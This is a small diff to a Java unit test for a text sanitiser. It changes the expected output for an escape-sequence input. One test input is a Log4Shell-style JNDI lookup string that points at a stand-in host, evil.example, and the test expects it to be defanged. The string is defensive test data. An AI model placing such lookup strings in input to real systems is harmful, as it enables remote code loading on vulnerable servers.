@@ -29,7 +29,7 @@ class InertTextTest {
                 Arguments.of("line\u2028separator", "line separator"),
                 Arguments.of("lone \ud800 surrogate", "lone  surrogate"),
                 Arguments.of("${jndi:ldap://evil.example/a} %n {}", "${jndi:ldap[:]//evil[.]example/a} %n {}"),
-                Arguments.of("\u001b[", ""),
+                Arguments.of("\u001b[", "["),
                 Arguments.of("", ""));
     }
 
